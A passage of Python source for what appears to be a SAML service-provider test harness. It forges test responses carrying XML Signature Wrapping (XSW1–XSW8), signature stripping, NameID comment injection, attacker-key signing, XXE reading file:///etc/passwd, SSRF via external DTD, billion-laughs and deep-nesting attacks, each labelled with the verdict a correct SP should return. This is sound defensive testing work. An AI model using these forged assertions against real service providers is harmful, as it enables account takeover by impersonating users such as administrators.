    return el.find(q("ds", "Signature"))


def make_evil(p, el):
    """SAMLRaider's match-and-replace: the evil copy names the victim (NameID and the email
    attribute), plus any victim_attributes overrides. Never touches ds:Signature content."""
    for nid in el.iter(q("saml", "NameID")):
        if not any(anc.tag == q("ds", "Signature") for anc in nid.iterancestors()):
            nid.text = p["victim_name_id"]
    overrides = dict(p.get("victim_attributes") or {})
    overrides.setdefault(p["email_attribute"], p["victim_name_id"])
    for at in el.iter(q("saml", "Attribute")):
        if any(anc.tag == q("ds", "Signature") for anc in at.iterancestors()):
            continue
        name = at.get("Name")
        if name in overrides:
            for v in list(at):
                at.remove(v)
            vals = overrides[name]
            for v in vals if isinstance(vals, list) else [vals]:
                sub(at, q("saml", "AttributeValue"), str(v))


def remove(el):
    el.getparent().remove(el)


def serialize(root):
    return etree.tostring(root, encoding="utf-8")


def re_sign_signed_info(sig, key, sig_alg=SIG_RSA_SHA256):
    """Recomputes SignatureValue over the (possibly edited) SignedInfo with the given key."""
    si = sig.find(q("ds", "SignedInfo"))
    c14n_alg = si.find(q("ds", "CanonicalizationMethod")).get("Algorithm")
    data = etree.tostring(si, method="c14n", exclusive=True, with_comments=c14n_alg.endswith("WithComments"))
    k = load_key(key)
    h = {SIG_RSA_SHA256: hashes.SHA256(), SIG_RSA_SHA1: hashes.SHA1()}[sig_alg]
    sig.find(q("ds", "SignatureValue")).text = base64.b64encode(k.sign(data, padding.PKCS1v15(), h)).decode()


def encrypt_assertion_element(p, assertion):
    """Replaces a (signed) saml:Assertion by saml:EncryptedAssertion (XML Encryption 1.1),
    done with `cryptography` only: AES (GCM or CBC) content key, RSA-OAEP key transport."""
    sp_cert = load_cert(p["sp_enc_cert"])
    alg_uri, key_len, mode = ENC_ALGS[p["enc_alg"]]
    plaintext = etree.tostring(copy.deepcopy(assertion), encoding="utf-8")
    cek = secrets.token_bytes(key_len)
    if mode == "gcm":
        iv = secrets.token_bytes(12)
        blob = iv + AESGCM(cek).encrypt(iv, plaintext, None)
    else:
        block = 8 if mode == "3des" else 16
        iv = secrets.token_bytes(block)
        pad = block - len(plaintext) % block
        padded = plaintext + secrets.token_bytes(pad - 1) + bytes([pad])  # XML Enc 5.2 padding
        algo = algorithms.AES(cek) if mode == "cbc" else algorithms.TripleDES(cek)
        enc = Cipher(algo, modes.CBC(iv)).encryptor()
        blob = iv + enc.update(padded) + enc.finalize()
    if p["key_transport"] == "rsa-oaep":
        oaep = padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None)
    elif p["key_transport"] == "rsa-1_5":
        oaep = padding.PKCS1v15()
    else:
        oaep = padding.OAEP(mgf=padding.MGF1(hashes.SHA1()), algorithm=hashes.SHA1(), label=None)
    wrapped = sp_cert.public_key().encrypt(cek, oaep)

    ea = etree.Element(q("saml", "EncryptedAssertion"), nsmap={"saml": NS_SAML})
    ed = etree.SubElement(ea, q("xenc", "EncryptedData"), {"Id": new_id(), "Type": NS_XENC + "Element"},
                          nsmap={"xenc": NS_XENC, "ds": NS_DS})
    sub(ed, q("xenc", "EncryptionMethod"), Algorithm=alg_uri)
    ki = sub(ed, q("ds", "KeyInfo"))
    ek = sub(ki, q("xenc", "EncryptedKey"), Id=new_id())
    if p["key_transport"] == "rsa-oaep":
        em = sub(ek, q("xenc", "EncryptionMethod"), Algorithm=KT_RSA_OAEP)
        sub(em, q("ds", "DigestMethod"), Algorithm=DIGEST_SHA256)
        etree.SubElement(em, "{%s}MGF" % NS_XENC11, {"Algorithm": MGF1_SHA256}, nsmap={"xenc11": NS_XENC11})
    elif p["key_transport"] == "rsa-1_5":
        sub(ek, q("xenc", "EncryptionMethod"), Algorithm=KT_RSA_1_5)
    else:
        em = sub(ek, q("xenc", "EncryptionMethod"), Algorithm=KT_RSA_OAEP_MGF1P)
        sub(em, q("ds", "DigestMethod"), Algorithm=DIGEST_SHA1)
    eki = sub(ek, q("ds", "KeyInfo"))
    x5 = sub(eki, q("ds", "X509Data"))
    sub(x5, q("ds", "X509Certificate"), cert_b64(sp_cert))
    cd = sub(ek, q("xenc", "CipherData"))
    sub(cd, q("xenc", "CipherValue"), base64.b64encode(wrapped).decode())
    cd = sub(ed, q("xenc", "CipherData"))
    sub(cd, q("xenc", "CipherValue"), base64.b64encode(blob).decode())
    parent = assertion.getparent()
    parent.replace(assertion, ea)
    return ea


# --------------------------------------------------------------------------------------------
# forge: the corpus
# --------------------------------------------------------------------------------------------
#
# Every case returns the XML bytes of a SAMLResponse. `expect` says what a correct SP does:
#   accept       - log the user (name_id) in
#   accept_once  - accept the first POST, refuse an identical second one (replay cache)
#   reject       - refuse; `check` names the SP check that must do it
#   not_victim   - the signature is genuinely valid; the SP must not log in as victim_name_id
#                  (refusing, or logging in as the full NameID text, are both correct)
# Structural attacks put victim_name_id (e.g. admin@acme.example) in the element a naive SP
# would read, and keep a genuinely valid IdP signature somewhere else in the document.

CASES = {}


def case(name, expect, check, description):
    def deco(fn):
        CASES[name] = {"fn": fn, "expect": expect, "check": check, "description": description}
        return fn

    return deco


def simple(p, default_sign="assertion", **kw):
    root = build_response(p, **kw)
    return serialize(sign_response_tree(p, root, p.get("sign") or default_sign))


@case("valid", "accept", "-", "baseline: one Assertion, Assertion signed (enveloped, RSA-SHA256, exc-c14n)")
def c_valid(p):
    return simple(p, "assertion")


@case("valid_response_signed", "accept", "-", "baseline with the signature on the Response instead of the Assertion")
def c_valid_response_signed(p):
    return simple(p, "response")


@case("valid_both", "accept", "-", "baseline with both the Assertion and the Response signed")
def c_valid_both(p):
    return simple(p, "both")


@case("replay", "accept_once", "replay cache (Assertion ID)",
      "same as valid; pass a fixed assertion_id (and response_id) and POST it twice")
def c_replay(p):
    return simple(p, "assertion")


# --- XML Signature Wrapping, SAMLRaider XSW1-XSW8 (Somorovsky et al., "On Breaking SAML") ---


@case("xsw1", "reject", "signature must cover the Response actually processed (ID of root == Reference URI)",
      "XSW1: evil Response (new ID) at the root; the signed original Response is moved INSIDE its ds:Signature")
def c_xsw1(p):
    root = sign_response_tree(p, build_response(p), "response")
    clone = copy.deepcopy(root)
    remove(direct_signature(clone))
    make_evil(p, root)
    direct_signature(root).append(clone)
    root.set("ID", new_id("_evil_response_"))
    return serialize(root)


@case("xsw2", "reject", "signature must cover the Response actually processed (ID of root == Reference URI)",
      "XSW2: evil Response (new ID) at the root; the signed original Response is inserted just BEFORE the "
      "ds:Signature as a detached sibling")
def c_xsw2(p):
    root = sign_response_tree(p, build_response(p), "response")
    clone = copy.deepcopy(root)
    remove(direct_signature(clone))
    make_evil(p, root)
    sig = direct_signature(root)
    sig.addprevious(clone)
    root.set("ID", new_id("_evil_response_"))
    return serialize(root)


@case("xsw3", "reject", "exactly one Assertion; use only the signed one",
      "XSW3: unsigned evil Assertion (new ID) inserted BEFORE the signed original Assertion")
def c_xsw3(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    orig = assertion_of(root)
    evil = copy.deepcopy(orig)
    make_evil(p, evil)
    evil.set("ID", new_id("_evil_assertion_"))
    remove(direct_signature(evil))
    orig.addprevious(evil)
    return serialize(root)


@case("xsw4", "reject", "signed Assertion must be the one processed (and a direct child of Response)",
      "XSW4: evil Assertion (new ID) appended to the Response; the signed original is moved INSIDE it as its "
      "last child")
def c_xsw4(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    orig = assertion_of(root)
    evil = copy.deepcopy(orig)
    make_evil(p, evil)
    evil.set("ID", new_id("_evil_assertion_"))
    remove(direct_signature(evil))
    root.append(evil)
    evil.append(orig)  # moves orig
    return serialize(root)


@case("xsw5", "reject", "Reference URI must equal the ID of the Assertion that contains the Signature",
      "XSW5: the first Assertion is made evil (new ID) but keeps the original ds:Signature; an unsigned copy of "
      "the original is appended at the end of the Response")
def c_xsw5(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    evil = assertion_of(root)
    orig_copy = copy.deepcopy(evil)
    make_evil(p, evil)
    remove(direct_signature(orig_copy))
    root.append(orig_copy)
    evil.set("ID", new_id("_evil_assertion_"))
    return serialize(root)


@case("xsw6", "reject", "Reference URI must equal the ID of the Assertion that contains the Signature",
      "XSW6: like XSW5, but the unsigned copy of the original Assertion is placed INSIDE the original "
      "ds:Signature (which stays in the evil Assertion)")
def c_xsw6(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    evil = assertion_of(root)
    sig = direct_signature(evil)
    orig_copy = copy.deepcopy(evil)
    make_evil(p, evil)
    remove(direct_signature(orig_copy))
    sig.append(orig_copy)
    evil.set("ID", new_id("_evil_assertion_"))
    return serialize(root)


@case("xsw7", "reject", "IDs unique / exactly one Assertion / no Assertion outside its place",
      "XSW7: samlp:Extensions inserted before the signed Assertion, holding an unsigned evil copy with the SAME ID")
def c_xsw7(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    orig = assertion_of(root)
    ext = etree.Element(q("samlp", "Extensions"))
    orig.addprevious(ext)
    evil = copy.deepcopy(orig)
    make_evil(p, evil)
    remove(direct_signature(evil))
    ext.append(evil)
    return serialize(root)


@case("xsw8", "reject", "IDs unique; Reference must resolve to the Assertion containing the Signature",
      "XSW8: the Assertion is made evil (SAME ID, keeps the Signature); an unsigned copy of the original is put "
      "in a ds:Object inside that Signature")
def c_xsw8(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    evil = assertion_of(root)
    sig = direct_signature(evil)
    orig_copy = copy.deepcopy(evil)
    make_evil(p, evil)
    remove(direct_signature(orig_copy))
    obj = sub(sig, q("ds", "Object"))
    obj.append(orig_copy)
    return serialize(root)


# --- other signature attacks ------------------------------------------------------------------


def _stripped(p, where):
    root = sign_response_tree(p, build_response(p), where)
    for sig in list(root.iter(q("ds", "Signature"))):
        remove(sig)
    make_evil(p, root)
    return serialize(root)


@case("signature_stripped_response", "reject", "a valid IdP signature is required",
      "valid_response_signed with the Response signature removed and the NameID changed to the victim: "
      "nothing is signed")
def c_strip_resp(p):
    return _stripped(p, "response")


@case("signature_stripped_assertion", "reject", "a valid IdP signature is required",
      "valid (Assertion signed) with the Assertion signature removed and the NameID changed to the victim")
def c_strip_assertion(p):
    return _stripped(p, "assertion")


@case("signature_stripped_both", "reject", "a valid IdP signature is required",
      "valid_both with both signatures removed and the NameID changed to the victim")
def c_strip_both(p):
    return _stripped(p, "both")


@case("signature_other_element", "reject", "Reference URI must be '#'+ID of the element holding the Signature",
      "a valid IdP signature sits in the (evil, unsigned) Assertion but its Reference points to a signed "
      "blob in samlp:Extensions")
def c_sig_other(p):
    root = build_response(p, name_id=p["victim_name_id"])
    make_evil(p, root)
    ext = etree.Element(q("samlp", "Extensions"))
    root.find(q("saml", "Issuer")).addnext(ext)
    blob_id = new_id("_blob_")
    blob = etree.SubElement(ext, "{urn:bulwark:test}Blob", {"ID": blob_id}, nsmap={"t": "urn:bulwark:test"})
    blob.text = "signed by the IdP, but it is not the Assertion"
    root = sign_enveloped(root, blob_id, p["idp_key"], p["idp_cert"], sig_parent_id=assertion_of(root).get("ID"))
    return serialize(root)


@case("unsigned_assertion_first", "reject", "exactly one Assertion; use only the signed one",
      "a fresh unsigned evil Assertion (own ID) placed before the legitimately signed Assertion")
def c_unsigned_first(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    evil = build_assertion(p)
    make_evil(p, evil)
    assertion_of(root).addprevious(evil)
    return serialize(root)


@case("comment_in_nameid", "not_victim", "read the full text of NameID/AttributeValue (all text nodes)",
      "NameID and email are victim<!---->comment_suffix (e.g. admin@acme.example<!---->.evil.example), "
      "signed by the IdP key after the comment was inserted: valid under exc-c14n")
def c_comment(p):
    root = build_response(p)
    a = assertion_of(root)
    targets = [a.find(".//" + q("saml", "NameID"))]
    for at in a.iter(q("saml", "Attribute")):
        if at.get("Name") == p["email_attribute"]:
            targets.extend(at.findall(q("saml", "AttributeValue")))
    for el in targets:
        el.text = p["victim_name_id"]
        c = etree.Comment("")
        el.append(c)
        c.tail = p["comment_suffix"]
    return serialize(sign_response_tree(p, root, p.get("sign") or "assertion"))


@case("duplicate_assertions", "reject", "exactly one Assertion",
      "two Assertions, BOTH validly signed by the IdP: first for name_id, second for victim_name_id")
def c_dup_assertions(p):
    a1 = build_assertion(p)
    a2 = build_assertion(p, name_id=p["victim_name_id"], assertion_id=new_id())
    make_evil(p, a2)
    root = build_response(p, assertions=[a1, a2])
    return serialize(sign_response_tree(p, root, "assertion"))


@case("duplicate_ids", "reject", "IDs must be unique in the document",
      "the signed Assertion is followed by an unsigned evil Assertion carrying the SAME ID")
def c_dup_ids(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    orig = assertion_of(root)
    evil = copy.deepcopy(orig)
    make_evil(p, evil)
    remove(direct_signature(evil))
    orig.addnext(evil)
    return serialize(root)


@case("attacker_key", "reject", "verify only with the configured IdP certificate",
      "valid content signed with the attacker key; KeyInfo (lying) carries the real IdP certificate")
def c_attacker_key(p):
    root = build_response(p)
    return serialize(sign_response_tree(p, root, p.get("sign") or "assertion", key=p["attacker_key"],
                                        cert=p["idp_cert"]))


@case("keyinfo_attacker_cert", "reject", "never trust the certificate in KeyInfo",
      "victim NameID signed with the attacker key, attacker certificate (same subject CN) embedded in KeyInfo")
def c_keyinfo_attacker(p):
    root = build_response(p, name_id=p["victim_name_id"])
    make_evil(p, root)
    return serialize(sign_response_tree(p, root, p.get("sign") or "assertion", key=p["attacker_key"],
                                        cert=p["attacker_cert"]))


@case("sha1", "reject", "algorithm allowlist (no SHA-1)", "valid but RSA-SHA1 signature and SHA-1 digest")
def c_sha1(p):
    root = build_response(p)
    return serialize(sign_response_tree(p, root, p.get("sign") or "assertion", sig_alg=SIG_RSA_SHA1,
                                        digest_alg=DIGEST_SHA1))


@case("c14n_with_comments", "reject", "algorithm allowlist (exc-c14n without comments only)",
      "valid content, signed with exc-c14n#WithComments as both CanonicalizationMethod and Reference transform")
def c_with_comments(p):
    root = build_response(p)
    return serialize(sign_response_tree(p, root, p.get("sign") or "assertion", c14n=C14N_EXC_COMMENTS))


XSLT_STYLESHEET = """<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">
  <xsl:variable name="probe" select="document('%s')"/>
  <xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>
</xsl:stylesheet>"""


@case("xslt_transform", "reject", "transform allowlist (enveloped-signature + exc-c14n only); never run XSLT",
      "valid Assertion signature whose Reference also lists an XSLT transform (identity + document() probe); "
      "SignedInfo re-signed with the IdP key so only the transform allowlist refuses it")
def c_xslt(p):
    root = sign_response_tree(p, build_response(p), "assertion")
    sig = direct_signature(assertion_of(root))
    transforms = sig.find(".//" + q("ds", "Transforms"))
    t = etree.Element(q("ds", "Transform"), Algorithm=TRANSFORM_XSLT)
    t.append(etree.fromstring(XSLT_STYLESHEET % html.escape(p["xxe_uri"])))
    transforms.insert(1, t)  # after enveloped-signature, before exc-c14n
    re_sign_signed_info(sig, p["idp_key"])
    return serialize(root)


# --- conditions / binding checks (all validly signed) ----------------------------------------


@case("wrong_audience", "reject", "Audience == SP entity ID",
      "validly signed, Audience is another SP (https://other-sp.example/metadata)")
def c_wrong_audience(p):
    return simple(p, audience="https://other-sp.example/metadata")


@case("wrong_recipient", "reject", "SubjectConfirmationData Recipient == ACS URL",
      "validly signed, SubjectConfirmationData Recipient is another ACS URL")
def c_wrong_recipient(p):
    return simple(p, recipient="https://other-sp.example/acs")


@case("wrong_destination", "reject", "Response Destination == ACS URL",
      "validly signed (Response and Assertion), Response Destination is another ACS URL")
def c_wrong_destination(p):
    return simple(p, "both", destination="https://other-sp.example/acs")


@case("wrong_in_response_to", "reject", "InResponseTo == the ID of an AuthnRequest this SP sent",
      "validly signed, InResponseTo (Response and SubjectConfirmationData) names an unknown request")
def c_wrong_irt(p):
    return simple(p, in_response_to=new_id("_unknown_request_"))


@case("unsolicited", "reject", "IdP-initiated SSO off: InResponseTo required",
      "validly signed, no InResponseTo anywhere (IdP-initiated)")
def c_unsolicited(p):
    return simple(p, in_response_to=None)


@case("wrong_issuer", "reject", "Issuer == configured IdP entity ID",
      "validly signed by the IdP key but Issuer (Response and Assertion) is another entity ID")
def c_wrong_issuer(p):
    return simple(p, "both", issuer="https://other-idp.example/metadata")


@case("expired", "reject", "NotOnOrAfter (Conditions and SubjectConfirmationData) + skew",
      "validly signed, issued 10 min ago, NotOnOrAfter = now - skew - 120 s")
def c_expired(p):
    now = p.now()
    skew = int(p["not_before_skew"])
    return simple(p, now=now - dt.timedelta(minutes=10),
                  not_on_or_after=now - dt.timedelta(seconds=skew + 120))


@case("expired_subject_confirmation", "reject", "SubjectConfirmationData NotOnOrAfter + skew",
      "validly signed, Conditions fine, only SubjectConfirmationData NotOnOrAfter is past (now - skew - 120 s)")
def c_expired_sc(p):
    now = p.now()
    skew = int(p["not_before_skew"])
    return simple(p, sc_not_on_or_after=now - dt.timedelta(seconds=skew + 120))


@case("not_yet_valid", "reject", "Conditions NotBefore - skew",
      "validly signed, Conditions NotBefore = now + skew + 120 s")
def c_not_yet(p):
    now = p.now()
    skew = int(p["not_before_skew"])
    return simple(p, not_before=now + dt.timedelta(seconds=skew + 120),
                  not_on_or_after=now + dt.timedelta(seconds=skew + 120 + int(p["lifetime"])))


# --- parser attacks ---------------------------------------------------------------------------


def _with_doctype(p, doctype, nameid_text):
    """valid (Assertion signed), then a DOCTYPE prepended and the NameID text replaced by an
    entity reference. The signature no longer verifies; the parser must refuse first."""
    marker = "NAMEID-MARKER-" + secrets.token_hex(4)
    xml = c_valid(Params({**p, "name_id": marker})).decode()
    xml = xml.replace(marker, nameid_text, 1)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + "\n" + xml).encode()


@case("dtd_xxe", "reject", "no DTD at all (refuse any DOCTYPE); never resolve external entities",
      "DOCTYPE declaring an external entity (xxe_uri, default file:///etc/passwd) used as the NameID")
def c_xxe(p):
    return _with_doctype(p, '<!DOCTYPE samlp:Response [\n  <!ENTITY xxe SYSTEM "%s">\n]>' % p["xxe_uri"], "&xxe;")


@case("dtd_external_ssrf", "reject", "no DTD at all; never fetch an external DTD",
      "valid signed Response behind a DOCTYPE whose external DTD is ssrf_url (a test may listen there and "
      "assert no connection)")
def c_ssrf(p):
    # The signed content is untouched: only the DOCTYPE line is added, so the signature verifies.
    doctype = '<!DOCTYPE samlp:Response SYSTEM "%s">' % p["ssrf_url"]
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + "\n" + c_valid(p).decode()).encode()


@case("billion_laughs", "reject", "no DTD at all; no entity expansion",
      "classic billion-laughs internal entities (lol9 = 10^9 'lol'), used as the NameID")
def c_lol(p):
    ents = ['  <!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else "lol%d" % (i - 1)
        ents.append('  <!ENTITY lol%d "%s">' % (i, ("&%s;" % prev) * 10))
    return _with_doctype(p, "<!DOCTYPE samlp:Response [\n%s\n]>" % "\n".join(ents), "&lol9;")


@case("deep_nesting", "reject", "depth limit in the XML parser",
      "valid signed Assertion, plus samlp:Extensions holding nesting_depth (100000) nested elements "
      "(~0.7 MB decoded, under 1 MiB)")
def c_deep(p):
    xml = c_valid(p).decode()
    depth = int(p["nesting_depth"])
    # 7 bytes a level, so 100000 levels stay under 1 MiB decoded: a depth limit, not a size
    # limit, has to refuse it.
    nest = '<samlp:Extensions><d xmlns="urn:bulwark:test:nesting">' + "<d>" * (depth - 1)
    nest += "</d>" * depth + "</samlp:Extensions>"
    i = xml.index("</saml:Issuer>") + len("</saml:Issuer>")
    return (xml[:i] + nest + xml[i:]).encode()


@case("oversized", "reject", "size limit on the SAMLResponse (>1 MiB decoded)",
      "validly signed Response whose Assertion carries a padding attribute of oversized_bytes (1.2 MB)")
def c_oversized(p):
    attrs = dict(p["attributes"])
    attrs["padding"] = "A" * int(p["oversized_bytes"])
    return simple(p, attributes=attrs)


# --- other algorithms / encryption ------------------------------------------------------------


@case("ec_valid", "accept", "- (accept if the IdP is configured with idp-ec.crt)",
      "valid, signed ECDSA-SHA256 with the idp-ec key (params idp_ec_key/idp_ec_cert)")
def c_ec(p):
    root = build_response(p)
    return serialize(sign_response_tree(p, root, p.get("sign") or "assertion", key=p["idp_ec_key"],
                                        cert=p["idp_ec_cert"], sig_alg=SIG_ECDSA_SHA256))


@case("encrypted_valid", "accept", "- (accept if the SP decrypts with the key of sp_enc_cert)",
      "valid signed Assertion, then encrypted to sp_enc_cert (enc_alg aes256-gcm, key_transport rsa-oaep-mgf1p)")
def c_encrypted(p):
    if not p.get("sp_enc_cert"):
        raise SystemExit("encrypted_valid needs param sp_enc_cert")
    root = sign_response_tree(p, build_response(p), p.get("sign") or "assertion")
    if (p.get("sign") or "assertion") in ("response", "both"):
        raise SystemExit("encrypted_valid: the Response signature would cover the plaintext; sign=assertion only")
    encrypt_assertion_element(p, assertion_of(root))
    return serialize(root)


def forge_all(raw, out):
    """Writes DIR/<case>.b64 for every case plus DIR/manifest.json (one process for the whole
    corpus). Cases whose params are missing (e.g. no sp_enc_cert) are listed as skipped."""
    if not out:
        raise SystemExit("forge --all needs --out DIR")
    os.makedirs(out, exist_ok=True)
    manifest = []
    for name, c in CASES.items():
        entry = {"name": name, "expect": c["expect"], "check": c["check"], "description": c["description"]}
        try:
            xml = c["fn"](Params(raw))
        except SystemExit as e:
            entry["skipped"] = str(e)
        else:
            entry["file"] = name + ".b64"
            with open(os.path.join(out, entry["file"]), "w") as f:
                f.write(base64.b64encode(xml).decode() + "\n")
        manifest.append(entry)
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    print(os.path.join(out, "manifest.json"))


def cmd_forge(args):
    if args.list:
        if args.json:
            print(json.dumps([{"name": n, "expect": c["expect"], "check": c["check"],
                               "description": c["description"]} for n, c in CASES.items()], indent=1))
        else:
            width = max(len(n) for n in CASES)
            for n, c in CASES.items():
                print("%-*s  %-11s  %s" % (width, n, c["expect"], c["description"]))
        return
    if not args.params or not (args.case or args.all):
        raise SystemExit("forge needs --case NAME --params FILE, --all --out DIR --params FILE, or --list")
    if args.params.lstrip().startswith("{"):
        raw = json.loads(args.params)
    else:
        with open(args.params) as f:
            raw = json.load(f)
    if args.all:
        return forge_all(raw, args.out)
    if args.case not in CASES:
        raise SystemExit("unknown case %r; see forge --list" % args.case)
    xml = CASES[args.case]["fn"](Params(raw))
    if args.xml:
        sys.stdout.write(xml.decode() + "\n")
    else:
        print(base64.b64encode(xml).decode())


# --------------------------------------------------------------------------------------------
# selfcheck
# --------------------------------------------------------------------------------------------


def naive_verify(xml, cert):
    """A deliberately NAIVE verifier, the kind the XSW fixtures are aimed at. For each
    ds:Signature: is SignatureValue valid under `cert`, and which element with the referenced ID
    has a matching digest (tree copy, enveloped Signature removed, exc-c14n)?
    Returns [(signature path, signature ok, signed element path or None)]."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=False)
    root = etree.fromstring(xml, parser)
    tree = root.getroottree()
    pub = cert.public_key()
    out = []
    for sig in root.iter(q("ds", "Signature")):
        si = sig.find(q("ds", "SignedInfo"))
        if si is None:
            continue
        c14n = si.find(q("ds", "CanonicalizationMethod")).get("Algorithm")
        alg = si.find(q("ds", "SignatureMethod")).get("Algorithm")
        data = etree.tostring(si, method="c14n", exclusive=True, with_comments=c14n.endswith("WithComments"))
        raw = base64.b64decode(sig.find(q("ds", "SignatureValue")).text)
        h = hashes.SHA1() if alg == SIG_RSA_SHA1 else hashes.SHA256()
        try:
            if isinstance(pub, rsa.RSAPublicKey):
                pub.verify(raw, data, padding.PKCS1v15(), h)
            else:
                half = len(raw) // 2
                der = asym_utils.encode_dss_signature(int.from_bytes(raw[:half], "big"),
                                                      int.from_bytes(raw[half:], "big"))
                pub.verify(der, data, ec.ECDSA(h))
            sig_ok = True
        except CryptoInvalidSignature:
            sig_ok = False
        signed = None
        for ref in si.findall(q("ds", "Reference")):
            uri = ref.get("URI", "")[1:]
            dalg = ref.find(q("ds", "DigestMethod")).get("Algorithm")
            want = ref.find(q("ds", "DigestValue")).text.strip()
            wc = any(t.get("Algorithm", "").endswith("WithComments") for t in ref.iter(q("ds", "Transform")))
            sv = sig.find(q("ds", "SignatureValue")).text
            for cand in root.xpath("//*[@ID=$id]", id=uri):
                cp = etree.fromstring(etree.tostring(cand))
                for s in list(cp.iter(q("ds", "Signature"))):
                    v = s.find(q("ds", "SignatureValue"))
                    if v is not None and v.text == sv:
                        s.getparent().remove(s)
                body = etree.tostring(cp, method="c14n", exclusive=True, with_comments=wc)
                d = hashlib.sha1(body) if dalg == DIGEST_SHA1 else hashlib.sha256(body)
                if base64.b64encode(d.digest()).decode() == want:
                    signed = tree.getpath(cand)
        out.append((tree.getpath(sig), sig_ok, signed))
    return root, out


def sloppy_reads(root):
    """What sloppy SPs read: the first text node of (a) the first NameID anywhere in the
    document (//NameID) and (b) Response/Assertion[1]/Subject/NameID."""
    a = root.find(".//" + q("saml", "NameID"))
    b = root.find("%s/%s/%s" % (q("saml", "Assertion"), q("saml", "Subject"), q("saml", "NameID")))
    return "//NameID=%r /Response/Assertion[1]/Subject/NameID=%r" % (
        None if a is None else a.text, None if b is None else b.text)


def strict_signxml(xml, cert_pem, allow_sha1=False):
    """signxml the SAML way: verify, then look only at what signxml returns as signed."""
    from signxml import XMLVerifier
    from signxml.algorithms import DigestAlgorithm, SignatureMethod
    from signxml.verifier import SignatureConfiguration

    cfg = SignatureConfiguration(expect_references=1)
    if allow_sha1:
        cfg = SignatureConfiguration(expect_references=1, signature_methods=frozenset(SignatureMethod),
                                     digest_algorithms=frozenset(DigestAlgorithm))
    res = XMLVerifier().verify(xml, x509_cert=cert_pem, expect_config=cfg)
    signed = res.signed_xml
    nid = signed.find(".//" + q("saml", "NameID"))
    return "%s ID=%s NameID=%s" % (etree.QName(signed).localname, signed.get("ID"), None if nid is None else
                                   "".join(nid.itertext()))


def pysaml2_sp(tmp, keydir, p, b64, *, outstanding=True):
    """pysaml2's SP (Saml2Client) parsing the response; returns a verdict string."""
    from saml2 import BINDING_HTTP_POST
    from saml2.client import Saml2Client
    from saml2.config import SPConfig

    idp_md = os.path.join(tmp, "idp-md.xml")
    with open(idp_md, "w") as f:
        f.write(idp_metadata_xml(p["idp_entity_id"], load_cert(p["idp_cert"]), "http://127.0.0.1:9998/sso"))
    cfg = SPConfig()
    cfg.load({
        "entityid": p["sp_entity_id"],
        "xmlsec_binary": shutil.which("xmlsec1"),
        "metadata": {"local": [idp_md]},
        "encryption_keypairs": [{"key_file": os.path.join(keydir, "sp.key"),
                                 "cert_file": os.path.join(keydir, "sp.crt")}],
        "key_file": os.path.join(keydir, "sp.key"),
        "cert_file": os.path.join(keydir, "sp.crt"),
        "accepted_time_diff": 60,
        "allow_unknown_attributes": True,
        "service": {"sp": {
            "endpoints": {"assertion_consumer_service": [(p["acs_url"], BINDING_HTTP_POST)]},
            "want_assertions_signed": False,
            "want_response_signed": False,
            "want_assertions_or_response_signed": True,
            "allow_unsolicited": False,
        }},
    })
    client = Saml2Client(config=cfg)
    try:
        out = {p["in_response_to"]: "/"} if outstanding else {}
        # conv_info makes pysaml2 check SubjectConfirmationData/@Recipient (it skips it otherwise)
        r = client.parse_authn_request_response(b64, BINDING_HTTP_POST, outstanding=out,
                                                conv_info={"entity_id": p["sp_entity_id"]})
        if r is None:
            return "REFUSED (None)"
        return "ACCEPTED NameID=%s" % r.name_id.text
    except Exception as e:
        return "REFUSED %s: %s" % (type(e).__name__, str(e).splitlines()[0][:90] if str(e) else "")


def idp_metadata_xml(entity_id, cert, sso_url):
    return """<md:EntityDescriptor xmlns:md="%s" xmlns:ds="%s" entityID="%s">
  <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>%s</ds:X509Certificate>
    </ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="%s"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>
""" % (NS_MD, NS_DS, html.escape(entity_id), cert_b64(cert), html.escape(sso_url))


def sp_metadata_xml(entity_id, acs_url, enc_cert=None):
    """A hand-written SP metadata like Bulwark's (used by selfcheck and as an example)."""
    kd = ""
    if enc_cert is not None:
        kd = """    <md:KeyDescriptor use="encryption"><ds:KeyInfo><ds:X509Data>
      <ds:X509Certificate>%s</ds:X509Certificate>
    </ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
""" % cert_b64(enc_cert)
    return """<?xml version="1.0" encoding="UTF-8"?>
<md:EntityDescriptor xmlns:md="%s" xmlns:ds="%s" entityID="%s">
  <md:SPSSODescriptor AuthnRequestsSigned="false" WantAssertionsSigned="true"
      protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
%s    <md:NameIDFormat>%s</md:NameIDFormat>
    <md:AssertionConsumerService index="0" isDefault="true"
        Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="%s"/>
  </md:SPSSODescriptor>
</md:EntityDescriptor>
""" % (NS_MD, NS_DS, html.escape(entity_id), kd, NAMEID_EMAIL, html.escape(acs_url))


def xmlsec_decrypt(xml, keyfile):
    with tempfile.NamedTemporaryFile(suffix=".xml") as f:
        f.write(xml)
        f.flush()
        r = subprocess.run(["xmlsec1", "--decrypt", "--privkey-pem", keyfile, f.name], capture_output=True)
    if r.returncode != 0:
        raise RuntimeError(r.stderr.decode()[-300:])
    return r.stdout


def cmd_selfcheck(args):
    logging.basicConfig(level=logging.WARNING, stream=sys.stderr)
